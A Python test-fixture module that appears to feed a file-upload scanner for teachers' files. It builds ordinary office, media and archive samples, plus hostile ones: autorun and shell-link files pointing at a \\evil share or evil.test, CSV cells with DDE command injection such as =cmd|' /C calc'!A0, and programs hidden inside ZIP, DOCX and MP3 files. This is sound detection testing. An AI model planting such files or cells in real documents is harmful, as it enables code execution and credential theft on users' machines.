"""What teachers' programs make of a day's work, by the libraries that write such files; and what
somebody would slip among it."""

import io
import struct
import zipfile
from functools import partial
from typing import Any, cast

import openpyxl
import xlsxwriter  # type: ignore[import-untyped]
from docx import Document
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from openpyxl.comments import Comment
from openpyxl.worksheet.datavalidation import DataValidation
from PIL import Image
from pptx import Presentation
from pptx.chart.data import CategoryChartData
from pptx.enum.chart import XL_CHART_TYPE
from pptx.enum.shapes import MSO_SHAPE
from pptx.util import Inches
from reportlab.pdfgen.canvas import Canvas

from tests.hostile.archives import zipped
from tests.hostile.case import Case
from tests.hostile.fillings import PROGRAM
from tests.hostile.images import picture
from tests.hostile.media import mp3, mp4, wav
from tests.hostile.office import word

_AT = (Inches(1), Inches(1), Inches(4), Inches(3))


def _deck() -> bytes:
    """A chart with its workbook, a film, notes, a button, links and pictures of four kinds."""
    deck: Any = Presentation()
    slide = deck.slides.add_slide(deck.slide_layouts[5])
    slide.shapes.title.text = "二次函数 y=|x|!"
    figures = cast(Any, CategoryChartData)()
    figures.categories = ["语文", "数学"]
    figures.add_series("七(1)班", (80, 90))
    shapes = slide.shapes
    shapes.add_chart(XL_CHART_TYPE.COLUMN_CLUSTERED, *_AT, figures)
    shapes.add_movie(io.BytesIO(mp4()), *_AT, io.BytesIO(picture("PNG")), "video/mp4")
    for kind, mode in (("TIFF", "RGB"), ("BMP", "RGB"), ("GIF", "P"), ("JPEG", "CMYK")):
        shapes.add_picture(io.BytesIO(picture(kind, mode)), 0, 0)
    slide.notes_slide.notes_text_frame.text = "备注：DDEAUTO 是域名"
    button = shapes.add_shape(MSO_SHAPE.ACTION_BUTTON_FORWARD_OR_NEXT, *_AT)
    button.click_action.target_slide = deck.slides.add_slide(deck.slide_layouts[6])
    run = shapes.add_textbox(*_AT).text_frame.paragraphs[0].add_run()
    run.hyperlink.address = "https://basic.smartedu.cn/tchMaterial?a=1&b=2"
    shapes.add_shape(MSO_SHAPE.RECTANGLE, *_AT).click_action.hyperlink.address = "课件/第2课.pptx"
    target = io.BytesIO()
    deck.save(target)
    return target.getvalue()


_FIELDS = (
    'TOC \\o "1-3" \\h \\z \\u', "EQ \\f(1,2)", "SEQ 图 \\* ARABIC", "REF _Ref1 \\h", "NUMPAGES",
    'DATE \\@ "yyyy年M月d日"', "SYMBOL 252 \\f Wingdings", "FORMTEXT", "ADDIN EN.CITE", "= SUM(ABOVE)",
    'HYPERLINK "mailto:a@school.test"', 'IF 1 = 1 "a|b!" ""', "CITATION a \\l 2052",
)  # fmt: skip


def _plan() -> bytes:
    """A plan with fields of many kinds, a table, a comment."""
    plan = Document()
    for field in _FIELDS:
        paragraph: Any = plan.add_paragraph()._p
        for piece in (
            '<w:fldChar w:fldCharType="begin"/>',
            f'<w:instrText xml:space="preserve"> {field} </w:instrText>',
            '<w:fldChar w:fldCharType="end"/>',
        ):
            paragraph.append(parse_xml(f"<w:r {nsdecls('w')}>{piece}</w:r>"))
    plan.add_table(2, 2).cell(0, 0).text = "目标"
    plan.add_comment(plan.paragraphs[0].add_run("x"), text="批注：见 file://x", author="李")
    target = io.BytesIO()
    plan.save(target)
    return target.getvalue()


_FORMULAS = (
    '=IF(B2>60,"很好!继续|努力","加油 (image) call(1)")', "=VLOOKUP(A2,'七(1)班 |总'!A:D,2,FALSE)",
    '=TEXT(TODAY(),"yyyy-mm-dd")&"!"', '=HYPERLINK("#Sheet2!A1","去|表2")', '=INDIRECT("B"&ROW())',
    '=IFERROR(1/0,"错误: #DIV/0!")', '=SUMPRODUCT((B2:B9>60)*(C2:C9>60))', '=HYPERLINK(Z1,"打开")',
)  # fmt: skip


def _marks() -> bytes:
    """A book of marks: formulas, a choice, a comment, links, a hidden sheet."""
    book = openpyxl.Workbook()
    sheet: Any = book.active
    sheet.title = "七(1)班 |总"
    for number, formula in enumerate(_FORMULAS, 1):
        sheet[f"F{number}"] = formula
    sheet["Z1"], sheet["Z2"] = "https://basic.smartedu.cn", "teacher@school.edu.cn"
    sheet["G1"].hyperlink, sheet["G2"].hyperlink = "https://a.test/x", "课件/图.png"
    sheet["A2"].comment = Comment("张老师: 注意", "张")
    choice = DataValidation(type="list", formula1='"优,良,中"')
    sheet.add_data_validation(choice)
    choice.add("H1")
    book.create_sheet("Sheet2").sheet_state = "hidden"
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


def _list() -> bytes:
    """A list with a table, a picture, links of every kind, formulas of the newest."""
    target = io.BytesIO()
    book: Any = xlsxwriter.Workbook(target)
    sheet = book.add_worksheet("名单")
    sheet.insert_image("D1", "a.png", {"image_data": io.BytesIO(picture("PNG"))})
    for row, url in enumerate(("internal:名单!A5", "external:课件/第1课.pptx", "mailto:a@b.test")):
        sheet.write_url(row, 0, url)
    columns = [{"header": "分|数"}, {"header": "评", "formula": "=[@[分|数]]*2"}]
    sheet.add_table("B6:C9", {"columns": columns})
    sheet.write_dynamic_array_formula("H1", '=FILTER(B7:B9,B7:B9>1,"无!")')
    sheet.write_formula("H5", "=LET(x,1,x+1)")
    book.close()
    return target.getvalue()


def _sheet_to_fill() -> bytes:
    target = io.BytesIO()
    canvas = Canvas(target)
    canvas.linkURL("https://basic.smartedu.cn", (100, 600, 200, 650))
    canvas.bookmarkPage("a")
    canvas.addOutlineEntry("a", "a")
    canvas.acroForm.textfield(name="姓名", x=10, y=10)
    canvas.acroForm.checkbox(name="c", x=90, y=90)
    canvas.showPage()
    canvas.save()
    return target.getvalue()


def _frames(kind: str, **others: Any) -> bytes:
    stills = [Image.new("RGB", (60, 60), (20 * each, 0, 0)) for each in range(8)]
    target = io.BytesIO()
    stills[0].save(target, kind, save_all=True, append_images=stills[1:], **others)
    return target.getvalue()


def _album() -> bytes:
    """A song with its cover, its words and a tag of before."""
    frames = (
        (b"APIC", b"\0image/jpeg\0\3\0" + picture("JPEG")),
        (b"COMM", b"\0engx\0http://a.test"),
    )
    told = b"".join(name + struct.pack(">IH", len(value), 0) + value for name, value in frames)
    length = bytes(len(told) >> 7 * each & 127 for each in (3, 2, 1, 0))
    return b"ID3\3\0\0" + length + told + mp3() + b"TAG" + b"x" * 125


def _studio() -> bytes:
    """A recording with what studios' programs add."""
    added = (
        (b"bext", b"desc".ljust(602, b"\0")),
        (b"iXML", b"<x/>" * 200),
        (b"PAD ", b"\0" * 5000),
        (b"DISP", b"\1\0\0\0song\0\0"),
    )
    body = wav()[8:] + b"".join(kind + struct.pack("<I", len(told)) + told for kind, told in added)
    return b"RIFF" + struct.pack("<I", len(body)) + body


class _Pipe(io.BytesIO):
    def seekable(self) -> bool:
        return False

    def tell(self) -> int:
        raise OSError


def _streamed() -> bytes:
    """A ZIP whose lengths stand behind its entries, with one that is told in 64 bits."""
    target = _Pipe()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("课/a.txt", "课文" * 100)
        with archive.open(zipfile.ZipInfo("课/b.txt"), "w", force_zip64=True) as entry:
            entry.write("课文".encode())
    return target.getvalue()


_LEFT = (
    ("autorun.inf", b"[autorun]\nopen=a.exe\n"), ("a.scf", b"[Shell]\nIconFile=\\\\evil\\a.ico\n"),
    ("a.desktop", b"[Desktop Entry]\nExec=sh\n"), ("a.iqy", b"WEB\n1\nhttp://evil.test\n"),
    ("a.slk", b'ID;P\nC;X1;Y1;K0;EEXEC("calc")\n'), ("desktop.ini", b"[.ShellClassInfo]\nIconFile=\\\\evil\\a\n"),
    ("Desktop.ini", b"[.ShellClassInfo]\nInfoTip=@\\\\evil\\a.dll,-1\n"), ("a.txt.exe", b"hello"), ("a.docm", word()),
)  # fmt: skip
_CELLS = (
    "＝cmd|' /C calc'!A0", "a\n\t=cmd|'/C calc'!A0", "\"\n=cmd|'/C calc'!A0\"",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''", "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "@SUM(1+9)*cmd|' /C calc'!A0",
)  # fmt: skip

HONEST = [
    Case("a deck of a day", "a.pptx", _deck),
    Case("a plan of a day", "a.docx", _plan),
    Case("a book of marks", "a.xlsx", _marks),
    Case("a list of a class", "a.xlsx", _list),
    Case("a sheet to fill in", "a.pdf", _sheet_to_fill),
    Case("a moving picture with a comment", "a.gif", lambda: _frames("GIF", loop=0, comment=b"MZ made")),
    Case("a moving PNG", "a.png", lambda: _frames("PNG")),
    Case("a moving web picture", "a.webp", lambda: _frames("WEBP", xmp=b'<x:xmpmeta xmlns:x="adobe:ns:meta/"/>')),
    Case("a progressive photograph", "a.jpg", lambda: picture("JPEG")),
    Case("a song of an album", "a.mp3", _album),
    Case("a recording of a studio", "a.wav", _studio),
    Case("a ZIP that was sent as it was made", "a.zip", _streamed),
    Case("a text about programs", "a.txt", lambda: 'MZ 是程序的开头，"This program cannot be run in DOS mode." PE\n'.encode()),
    Case("a lesson on pages", "a.md", lambda: b"# HTML\n```html\n<script>alert(1)</script>\n```\n[x](javascript:alert(1))\n"),
    Case("a table with telephones", "a.csv", lambda: '\ufeff姓名,电话,评语\r\n"张,三",+86 13800000000,"-2 分, ""很|好!"""\r\n李四,-,"@全体: 多\n行"\r\n'.encode()),
]  # fmt: skip

HOSTILE = [
    *(Case(f"{name} among a day's work", "a.zip", partial(zipped, {"课/a.txt": b"a", f"课/{name}": content}), "member-mismatch") for name, content in _LEFT),
    *(Case(f"a cell {cell!r}", "a.csv", partial(str.encode, cell), "dde") for cell in _CELLS),
    Case("a ZIP that unpacks itself", "a.zip", lambda: PROGRAM + zipped({"a.txt": b"a"}), "type-not-accepted"),
    Case("a ZIP with a program behind", "a.zip", lambda: zipped({"a.txt": b"a"}) + PROGRAM, "hidden-data"),
    Case("a plan with a program before its end", "a.docx", lambda: word().replace(b"PK\5\6", PROGRAM + b"PK\5\6"), "damaged"),
    Case("a song with a program amid", "a.mp3", lambda: mp3()[:5000] + PROGRAM + mp3()[5000:], "polyglot"),
]  # fmt: skip
